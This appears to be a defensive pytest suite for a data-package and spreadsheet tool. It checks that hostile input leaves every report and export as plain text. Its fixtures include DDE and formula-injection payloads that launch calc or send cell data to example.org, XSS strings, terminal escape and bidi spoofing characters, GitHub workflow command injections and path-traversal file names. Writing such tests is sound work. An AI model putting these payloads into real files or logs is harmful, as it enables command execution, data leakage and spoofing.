"""Text that some program would run is inert wherever it comes out."""

from __future__ import annotations

import io
import json
import re
import sqlite3
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from click.testing import CliRunner

from sheetpack import catalogue, report
from sheetpack.cli import main
from sheetpack.exports.product import LONGEST_FILE_NAME, file_name
from tests.editing import built, edit
from tests.samples import resource, write_package

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT(A1),"//a")',
    "{=1+1}",
    "＝1+1",
    "'=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "![x](http://example.org/x.png)",
    "| a | b |",
    "</td></tr></table>",
    "&lt;b&gt;",
    "`code` **bold** @someone #1",
    "]]>",
]
CONTROLS = [
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;http://example.org\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "a\rb",
    "\x9b31m",
    "\u202etxt.exe",
    "\u2066x\u2069",
    "\x00\x08\x7f",
    "\u2028line",
]
WORKFLOWS = [
    "\n::error::injected",
    "%0A::error file=x::injected",
    "x\r\n::set-output name=a::b",
    "::stop-commands::x",
    "a,line=1::b",
]
TEXTS = FORMULAS + MARKUP + WORKFLOWS
FORMATS = ("text", "json", "markdown", "github")


def run(*arguments):
    result = CliRunner().invoke(main, [*map(str, arguments)])
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    return result


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def package(folder: Path, texts: list[str], name: str = "sample", **field) -> Path:
    """A package of one table, whose cells, titles and descriptions hold the texts."""
    folder.mkdir(exist_ok=True)
    rows = "".join(f"k{at},{quoted(text)}\n" for at, text in enumerate(texts))
    words = {"title": texts[0], "description": " ".join(texts)}
    table = resource("a", ["id", {"name": "text", "type": "string", **words, **field}], ["id"])
    about = {"description": texts[1], "title": texts[0]}
    return write_package(
        folder, [table | about], {"a.csv": "id,text\n" + rows}, name=name, title=texts[-1]
    )


def outputs(folder: Path, book: Path):
    """What every command says on a package with problems, in every format."""
    for format_name in FORMATS:
        for arguments in (
            ["validate", folder],
            ["validate", book, "--package", folder],
            ["build", "--package", folder],
            ["format", "--package", folder],
        ):
            yield format_name, run(*arguments, "--format", format_name).output
        if format_name != "github":
            for command in (["diff", folder, book], ["merge", book, "--dry-run"]):
                said = run(*command, "--package", folder, "--format", format_name)
                yield format_name, said.output


@pytest.mark.parametrize("texts", [MARKUP, WORKFLOWS, FORMULAS, [*CONTROLS, "x"]])
def test_no_report_of_any_command_is_more_than_text(tmp_path, texts):
    """Every cell breaks a rule, so that every one of them is told."""
    sound = package(tmp_path / "sound", ["x"] * len(texts))
    book = built(sound, tmp_path / "book.xlsx")
    legal = [text for text in texts if not re.search("[\x00-\x08\x0b-\x1f]", text)]

    edit(book, lambda workbook: cells(workbook, legal))
    path = package(tmp_path / "p", texts, constraints={"enum": ["none", *texts[1:2]]})
    for format_name, said in outputs(path.parent, book):
        strange = {sign for sign in said if not sign.isprintable()} - {"\n"}
        if format_name == "json" and "{" in said:
            json.loads(said[said.index("{") :])
        assert not strange, (format_name, strange)
        if format_name == "markdown":
            bare = re.sub(r"\\.", "", said)  # what stands behind a backslash is text
            own = re.sub(r"</?(br|details|summary|b|code)>", "", bare)
            assert "<" not in own
            assert "](" not in bare
        if format_name == "github":
            for line in said.splitlines():
                assert line.startswith(("::error ", "::warning ", "Checked ", "Nothing ")) or (
                    not line.startswith("::")
                )
            assert "::error::injected" not in said.splitlines()


def cells(workbook, texts):
    """Type the texts into the column beside the ids."""
    sheets = [sheet for sheet in workbook if sheet["A1"].value == "id"]
    assert sheets
    for sheet in workbook:
        if sheet["A1"].value == "id":
            for at, text in enumerate(texts, start=2):
                cell = sheet.cell(at, 2)
                cell.value = text
                cell.data_type = "s"


@pytest.mark.parametrize("texts", [FORMULAS, MARKUP, WORKFLOWS])
def test_every_cell_of_the_workbook_that_shows_them_is_a_text(tmp_path, texts):
    path = package(tmp_path / "p", texts)
    assert run("build", "--package", path.parent).exit_code == 0
    book = openpyxl.load_workbook(path.parent / "dist" / "sample.xlsx")
    found = [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value]
    shown = {cell.value for cell in found if cell.data_type in ("s", "inlineStr")}
    assert {" ".join(text.split()) for text in texts} <= {
        " ".join(str(value).replace("_x000D_", "").split()) for value in shown
    }
    for cell in found:
        if cell.data_type == "f":
            assert not any(part in str(cell.value) for part in ("cmd", "IMPORTXML", "example.org"))
    links = [cell.hyperlink.target for cell in found if cell.hyperlink and cell.hyperlink.target]
    assert not [link for link in links if not link.startswith(("http://", "https://"))]


@pytest.mark.parametrize("text", [text for text in FORMULAS if "|" in text or "(" in text])
def test_no_csv_is_built_with_a_text_that_would_call_something(tmp_path, text):
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "view.sql").write_text("SELECT text FROM a")
    path = package(tmp_path / "p", [text, text])
    content = json.loads(path.read_text("utf-8"))
    content["sheetpack"] = {"views": [{"name": "v", "path": "view.sql"}]}
    path.write_text(json.dumps(content), "utf-8")
    result = run("build", "--package", path.parent, "--format", "json")
    assert {each["code"] for each in json.loads(result.stdout)["issues"]} >= {"csv-formula"}
    assert result.exit_code == 2
    assert not (path.parent / "dist").exists()


def test_the_workbook_of_a_diff_shows_them_as_text(tmp_path):
    old = package(tmp_path / "old", ["x"] * len(TEXTS))
    new = package(tmp_path / "new", TEXTS)
    book = tmp_path / "changes.xlsx"
    assert run("diff", old, new, "--workbook", book, "--quiet").exit_code == 0
    found = openpyxl.load_workbook(book)
    kinds = {cell.data_type for sheet in found for line in sheet.iter_rows() for cell in line}
    assert "f" not in kinds


def test_the_marked_copy_and_its_page_of_problems_show_them_as_text(tmp_path):
    path = package(tmp_path / "p", ["x"] * len(FORMULAS), constraints={"enum": ["x"]})
    book = built(path, tmp_path / "book.xlsx")
    edit(book, lambda workbook: cells(workbook, FORMULAS))
    marked = tmp_path / "marked.xlsx"
    run("validate", book, "--package", path, "--annotate", marked)
    found = openpyxl.load_workbook(marked)
    formulas = [
        str(cell.value)
        for sheet in found
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]
    assert not [text for text in formulas if "cmd" in text or "example.org" in text]


def test_the_database_and_the_document_hold_them_as_they_are(tmp_path):
    path = package(tmp_path / "p", TEXTS)
    exports = ["--export", "sqlite", "--export", "json"]
    assert run("build", "--package", path.parent, *exports).exit_code == 0
    dist = path.parent / "dist"
    with sqlite3.connect(dist / "sample.sqlite") as connection:
        texts = [text for (text,) in connection.execute("SELECT text FROM a ORDER BY rowid")]
    assert texts == TEXTS
    json.loads((dist / "sample.json").read_text("utf-8"))


NAMES = ["../../x", "/etc/x", "a/b", "..", "...", "CON", "con.txt", "nul", "COM1", "C:\\x", "-rf"]
NAMES += ["x" * 300, "界" * 200, "a\x00b", "a\nb", "~", "$HOME", "%TEMP%", "|x", "<a>", '"', "'"]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_looks_like_a_path_is_a_file_in_the_folder(name):
    made = file_name(name)
    assert made and Path(made).name == made and made not in (".", "..")
    assert "\\" not in made and ":" not in made and len(made.encode()) < 245
    assert not re.fullmatch(r"(?i)(con|nul|com1)(\..*)?", made)
    assert len(made) <= LONGEST_FILE_NAME + 1


@pytest.mark.parametrize("name", ["../../x", "a/b", "CON", "..", "x" * 300])
def test_a_build_under_such_names_stays_in_its_folder(tmp_path, name):
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / "view.sql").write_text("SELECT 1 AS one")
    path = package(folder, ["x", "y"], name=name)
    content = json.loads(path.read_text("utf-8"))
    content["sheetpack"] = {"views": [{"name": name, "path": "view.sql"}]}
    path.write_text(json.dumps(content), "utf-8")
    before = {each for each in tmp_path.rglob("*")}
    result = run("build", "--package", folder, "--export", "sqlite", "--export", "json")
    assert result.exit_code in (0, 2), result.output
    made = {each for each in tmp_path.rglob("*")} - before
    assert all(each.is_relative_to(folder / "dist") for each in made)


@pytest.mark.parametrize("text", CONTROLS + WORKFLOWS)
def test_a_fact_in_a_message_is_one_line_that_moves_no_cursor(text):
    shown = catalogue.shown(text)
    assert all(sign.isprintable() for sign in shown)
    issue = catalogue.issue("pattern-endless", cell=text, limit=text, file="a.csv", field=text)
    for said in (
        report.text([issue], report.Checked()),
        report.markdown([issue], report.Checked()),
        report.github([issue], report.Checked(), lambda _: ("a.csv", 2)),
    ):
        assert all(sign.isprintable() or sign == "\n" for sign in said)
        assert "\n::error::injected" not in said
        assert not re.search(r"\n(?!::error file=a\.csv)::", said)


def test_nothing_from_outside_is_asked_for_by_a_workbook_that_we_write(tmp_path):
    path = package(tmp_path / "p", FORMULAS + MARKUP)
    data = built(path, tmp_path / "book.xlsx").read_bytes()
    with ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        outside = [name for name in names if "externalLink" in name or "vba" in name.lower()]
        assert not outside
        for name in names:
            if name.endswith(".rels"):
                targets = re.findall(rb'Target="([^"]*)" TargetMode="External"', archive.read(name))
                assert not [each for each in targets if not each.startswith((b"http", b"#"))]
